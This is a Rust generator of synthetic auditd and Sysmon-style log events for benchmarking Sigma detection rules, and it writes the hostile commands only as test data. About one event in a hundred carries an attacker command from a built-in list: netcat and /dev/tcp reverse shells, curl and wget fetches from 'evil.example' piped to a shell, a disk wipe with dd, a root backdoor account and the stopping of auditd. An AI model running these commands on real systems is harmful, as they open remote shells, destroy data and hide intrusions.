//! A deterministic generator of auditd-shaped NDJSON events for the Sigma benchmark.
//!
//! Events carry the fields SigmaHQ's Linux rules read (raw auditd keys, and the process
//! creation / file / network names); about one in a hundred carries an attacker command.

use std::io::Write;

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[(self.next() % xs.len() as u64) as usize]
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

const BENIGN: &[&[&str]] = &[
    &["/usr/bin/ls", "-la", "/home/alice"],
    &["/usr/bin/cat", "/etc/hostname"],
    &["/usr/bin/grep", "-r", "TODO", "src"],
    &["/usr/bin/ps", "aux"],
    &["/usr/bin/git", "status"],
    &["/usr/bin/git", "pull", "--rebase"],
    &["/usr/bin/python3", "manage.py", "runserver"],
    &["/usr/bin/systemctl", "status", "nginx"],
    &["/usr/bin/curl", "-fsS", "https://api.example.com/health"],
    &["/usr/bin/vim", "notes.txt"],
    &["/usr/bin/make", "-j4"],
    &["/usr/bin/docker", "ps"],
    &["/usr/bin/ssh", "deploy@10.1.2.3"],
    &["/usr/bin/tar", "xzf", "release.tar.gz"],
    &["/usr/sbin/sshd", "-D"],
    &["/usr/bin/find", "/var/log", "-name", "*.gz"],
    &["/usr/bin/sort", "-u", "list.txt"],
    &["/usr/bin/df", "-h"],
    &["/usr/bin/journalctl", "-u", "nginx"],
    &["/usr/bin/apt-get", "update"],
];

const MALICIOUS: &[&[&str]] = &[
    &["/usr/bin/base64", "-d", "payload.b64"],
    &["/usr/bin/nc", "-e", "/bin/sh", "10.9.9.9", "4444"],
    &["/usr/bin/chmod", "+s", "/tmp/x"],
    &["/bin/bash", "-i", ">&", "/dev/tcp/10.9.9.9/4444"],
    &["/usr/sbin/iptables", "-t", "nat", "--to-ports", "4444"],
    &["/usr/sbin/getcap", "-r", "/"],
    &["/usr/bin/xclip", "-selection", "clipboard"],
    &["/usr/bin/touch", "-t", "202001010000", "/bin/ls"],
    &["/usr/bin/chattr", "-i", "/etc/passwd"],
    &[
        "/usr/bin/wget",
        "http://evil.example/x.sh",
        "-O",
        "/tmp/x.sh",
    ],
    &["/usr/bin/crontab", "-r"],
    &["/usr/sbin/useradd", "-o", "-u", "0", "backdoor"],
    &["/usr/bin/setfacl", "-m", "u:alice:rwx", "/etc/shadow"],
    &["/usr/bin/dd", "if=/dev/zero", "of=/dev/sda"],
    &["/usr/bin/history", "-c"],
    &["/usr/bin/uname", "-a"],
    &["/usr/bin/whoami"],
    &[
        "/usr/bin/python3",
        "-c",
        "import pty;pty.spawn('/bin/bash')",
    ],
    &["/usr/bin/systemctl", "stop", "auditd"],
    &["/usr/bin/curl", "http://evil.example/a", "|", "sh"],
];

const USERS: &[&str] = &["alice", "bob", "root", "deploy", "www-data"];
const KEYS: &[&str] = &["exec", "identity", "logins", "network", "susp_activity"];
const PARENTS: &[&str] = &[
    "/usr/bin/bash",
    "/usr/bin/zsh",
    "/usr/sbin/sshd",
    "/usr/bin/python3",
    "/usr/lib/systemd/systemd",
];
const FILES: &[&str] = &[
    "/home/alice/notes.txt",
    "/var/log/syslog",
    "/tmp/build.log",
    "/etc/hosts",
    "/var/www/html/index.html",
];
const HOSTS: &[&str] = &[
    "api.example.com",
    "github.com",
    "deb.debian.org",
    "10.1.2.3",
];

/// Writes `n` events, one JSON object per line, and returns how many were malicious.
pub fn write_events(w: &mut impl Write, n: usize, seed: u64) -> std::io::Result<usize> {
    let mut rng = Rng(seed | 1);
    let mut bad = 0;
    let base_ts = 1_764_000_000u64;
    for i in 0..n {
        let malicious = rng.below(100) == 0;
        let argv = if malicious {
            bad += 1;
            MALICIOUS[rng.below(MALICIOUS.len() as u64) as usize]
        } else {
            BENIGN[rng.below(BENIGN.len() as u64) as usize]
        };
        let exe = argv[0];
        let comm = exe.rsplit('/').next().unwrap_or(exe);
        let cmdline = argv.join(" ");
        let user = rng.pick(USERS);
        let pid = 1000 + rng.below(60_000);
        let ts = format!("{}.{:03}", base_ts + i as u64 / 1000, i % 1000);
        let mut ev = serde_json::Map::new();
        let kind = rng.below(10);
        let s = |v: &str| serde_json::Value::String(v.to_string());
        ev.insert("timestamp".into(), s(&ts));
        ev.insert("host".into(), s("web-01"));
        match kind {
            // raw auditd EXECVE records merged with their SYSCALL record
            0..=4 => {
                ev.insert(
                    "type".into(),
                    s(if kind == 4 { "SYSCALL" } else { "EXECVE" }),
                );
                ev.insert("syscall".into(), s("execve"));
                ev.insert("success".into(), s("yes"));
                ev.insert("exe".into(), s(exe));
                ev.insert("comm".into(), s(comm));
                ev.insert("key".into(), s(rng.pick(KEYS)));
                ev.insert("argc".into(), s(&argv.len().to_string()));
                for (j, a) in argv.iter().take(4).enumerate() {
                    ev.insert(format!("a{j}"), s(a));
                }
                ev.insert("uid".into(), s(user));
                ev.insert("auid".into(), s(user));
                ev.insert("pid".into(), s(&pid.to_string()));
                ev.insert("ppid".into(), s(&(pid / 2).to_string()));
                ev.insert("cwd".into(), s("/home/alice"));
            }
            // PATH records
            5 => {
                ev.insert("type".into(), s("PATH"));
                ev.insert("name".into(), s(rng.pick(FILES)));
                ev.insert(
                    "nametype".into(),
                    s(if rng.below(2) == 0 {
                        "NORMAL"
                    } else {
                        "CREATE"
                    }),
                );
                ev.insert("inode".into(), s(&rng.below(1 << 20).to_string()));
                ev.insert("mode".into(), s("0100644"));
                ev.insert("key".into(), s(rng.pick(KEYS)));
            }
            // process creation (Sysmon for Linux names)
            6..=8 => {
                ev.insert("EventID".into(), s("1"));
                ev.insert("Image".into(), s(exe));
                ev.insert("CommandLine".into(), s(&cmdline));
                ev.insert("ParentImage".into(), s(rng.pick(PARENTS)));
                ev.insert("ParentCommandLine".into(), s("-bash"));
                ev.insert("CurrentDirectory".into(), s("/home/alice"));
                ev.insert("User".into(), s(user));
                ev.insert("LogonId".into(), s("0x3e7"));
                ev.insert("ProcessId".into(), s(&pid.to_string()));
            }
            // file and network events
            _ => {
                if rng.below(2) == 0 {
                    ev.insert("EventID".into(), s("11"));
                    ev.insert("Image".into(), s(exe));
                    ev.insert(
                        "TargetFilename".into(),
                        s(if malicious {
                            "/etc/cron.d/evil"
                        } else {
                            rng.pick(FILES)
                        }),
                    );
                } else {
                    ev.insert("EventID".into(), s("3"));
                    ev.insert("Image".into(), s(exe));
                    ev.insert("DestinationHostname".into(), s(rng.pick(HOSTS)));
                    ev.insert("DestinationPort".into(), s("443"));
                    ev.insert("Initiated".into(), s("true"));
                }
                ev.insert("User".into(), s(user));
            }
        }
        serde_json::to_writer(&mut *w, &serde_json::Value::Object(ev))?;
        w.write_all(b"\n")?;
    }
    Ok(bad)
}
